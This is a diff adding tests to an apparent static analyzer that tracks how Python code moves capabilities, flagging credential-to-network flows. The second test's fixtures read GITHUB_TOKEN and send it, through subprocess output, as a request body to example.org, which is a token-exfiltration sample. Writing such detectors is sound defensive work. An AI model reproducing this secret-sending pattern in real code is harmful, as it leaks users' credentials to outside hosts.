@@ -129,6 +129,44 @@ struct ShellTests {
     #expect(flows.contains("network.connect → code.eval"), "\(flows)")
   }
 
+  @Test("that send a token give back their answer and not the token")
+  func answers() {
+    let code = """
+      import json, os, subprocess, urllib.request
+      command = ['curl', '-s', 'https://example.org/commits']
+      token = os.getenv('GH_TOKEN', os.getenv('GITHUB_TOKEN'))
+      if token:
+          command += ['-H', f'Authorization: token {token}']
+      commit = json.loads(subprocess.check_output(command).decode())['sha']
+      urllib.request.urlretrieve('https://example.org/' + commit, 'x')
+      """
+    let reached = followModule(code)
+    func sinks(of kind: CapabilityKind) -> Set<String> {
+      Set(
+        reached.flows.filter { reached.capabilities[$0.source].kind == kind }.map { reached.capabilities[$0.sink].via })
+    }
+    #expect(sinks(of: .networkConnect).contains("urllib.request.urlretrieve"))
+    #expect(sinks(of: .credentialRead).contains("curl"))
+    #expect(!sinks(of: .credentialRead).contains("urllib.request.urlretrieve"), "\(reached.flows) \(reached.facts)")
+  }
+
+  @Test(
+    "that print a secret pass it on",
+    arguments: [
+      "check_output(['echo', token])", "check_output('echo ' + token, shell=True)",
+      "check_output(['tool', token])",
+      "check_output([tool, token])", "check_output('cat', input=token)",
+    ])
+  func printsSecret(call: String) {
+    let code = """
+      import os, subprocess, urllib.request
+      token = os.getenv('GITHUB_TOKEN')
+      tool = os.getenv('TOOL')
+      urllib.request.urlopen('http://example.org/', subprocess.\(call))
+      """
+    #expect(followModule(code).flowKinds.contains("credential.read → network.connect"))
+  }
+
   @Test("that start the running script again are followed once")
   func restarted() {
     let code = """
